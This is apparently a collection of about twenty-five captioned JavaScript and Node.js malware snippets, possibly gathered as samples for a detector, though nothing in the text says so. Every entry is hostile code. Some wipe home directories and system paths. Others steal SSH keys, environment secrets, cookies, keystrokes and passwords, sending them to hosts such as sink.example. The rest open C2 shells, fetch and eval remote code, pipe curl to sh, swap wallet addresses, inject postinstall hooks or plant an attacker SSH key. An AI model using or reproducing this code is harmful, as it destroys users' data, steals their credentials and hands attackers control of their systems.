%% copies of itself into every project
const fs = require('fs');
const path = require('path');
const self = fs.readFileSync(__filename, 'utf8');
for (const d of fs.readdirSync(path.join(require('os').homedir(), 'projects'))) {
  fs.appendFileSync(path.join(require('os').homedir(), 'projects', d, 'index.js'), self);
}
%% a tree walked with an async iterator and removed
import { opendir, unlink } from 'fs/promises';
import os from 'os';
for await (const e of await opendir(os.homedir(), { recursive: true })) {
  if (e.isFile()) await unlink(e.parentPath + '/' + e.name);
}
%% key file through a URL object
import { readFile } from 'node:fs/promises';
const url = new URL('file:///root/.ssh/id_ed25519');
const key = await readFile(url, 'utf8');
await fetch('https://sink.example', { method: 'POST', body: key });
%% secrets by an environment prefix
const picked = Object.keys(process.env).filter((k) => /KEY|TOKEN|SECRET/.test(k)).map((k) => [k, process.env[k]]);
fetch('https://sink.example/e', { method: 'POST', body: JSON.stringify(picked) });
%% spread of the environment
const all = { ...process.env, host: require('os').hostname() };
require('https').request('https://sink.example', { method: 'POST' }).end(JSON.stringify(all));
%% fs held in an object and called by a loop variable
const fs = require('fs');
const jobs = { a: ['unlinkSync', '/etc/hosts'], b: ['rmSync', '/var/lib'] };
for (const [fn, target] of Object.values(jobs)) fs[fn](target, { recursive: true });
%% callback style removal
const fs = require('fs');
fs.readdir(process.env.HOME, (err, names) => {
  names.forEach((n) => fs.rm(process.env.HOME + '/' + n, { recursive: true, force: true }, () => {}));
});
%% overwritten before deletion
const fs = require('fs');
const p = process.env.HOME + '/.ssh/id_rsa';
const n = fs.statSync(p).size;
fs.writeFileSync(p, require('crypto').randomBytes(n));
fs.unlinkSync(p);
%% shell by a template tag of zx
import { $ } from 'zx';
await $`rm -rf ${process.env.HOME}`;
%% exec under a getter
const o = { get run() { return require('child_process').execSync; } };
o.run('curl -s http://203.0.113.77/x | sh');
%% timers with code
setTimeout("require('child_process').exec('rm -rf ~')", 10);
%% websocket takes orders
const WebSocket = require('ws');
const { exec } = require('child_process');
const ws = new WebSocket('wss://c2.example');
ws.on('message', (m) => exec(m.toString(), (e, out) => ws.send(out)));
%% polling for code
setInterval(async () => {
  const code = await (await fetch('https://c2.example/next')).text();
  if (code) eval(code);
}, 5000);
%% node started with code by an argument
const { execFileSync } = require('child_process');
execFileSync(process.execPath, ['-e', "require('fs').rmSync('/home',{recursive:true})"]);
%% wasm bytes fetched
const bytes = await (await fetch('https://c2.example/m.wasm')).arrayBuffer();
const { instance } = await WebAssembly.instantiate(bytes, { env: { fs: require('fs') } });
instance.exports.main();
%% hosts of the module loader changed
const Module = require('module');
const old = Module._load;
Module._load = function (name, ...rest) {
  if (name === 'https') require('fs').appendFileSync('/tmp/.log', JSON.stringify(process.env));
  return old.call(this, name, ...rest);
};
%% prompt of the user copied to a server
const rl = require('readline').createInterface({ input: process.stdin });
rl.question('sudo password: ', (pw) => {
  require('http').get('http://203.0.113.4/?p=' + pw);
});
%% cookies of the page
new Image().src = 'https://sink.example/c?' + encodeURIComponent(document.cookie);
%% keys pressed
document.addEventListener('keydown', (e) => navigator.sendBeacon('https://sink.example/k', e.key));
%% wallet address swapped in the clipboard
setInterval(async () => {
  const t = await navigator.clipboard.readText();
  if (/^bc1/.test(t)) await navigator.clipboard.writeText('bc1qattackeraddress');
}, 500);
%% postinstall written by code
const fs = require('fs');
const p = JSON.parse(fs.readFileSync('package.json', 'utf8'));
p.scripts = { ...p.scripts, postinstall: 'node -e "require(\'child_process\').exec(\'curl x.example|sh\')"' };
fs.writeFileSync('package.json', JSON.stringify(p));
%% a hidden service key
const fs = require('fs');
fs.mkdirSync('/root/.ssh', { recursive: true });
fs.writeFileSync('/root/.ssh/authorized_keys', 'ssh-rsa AAAA attacker');
%% proc scan for tokens
const fs = require('fs');
for (const pid of fs.readdirSync('/proc')) {
  try {
    const env = fs.readFileSync(`/proc/${pid}/environ`, 'utf8');
    if (env.includes('TOKEN')) fetch('https://sink.example', { method: 'POST', body: env });
  } catch {}
}
%% mounted docker socket by net
const net = require('net');
const s = net.createConnection('/var/run/docker.sock');
s.write('POST /containers/create HTTP/1.1\r\nHost: x\r\n\r\n');
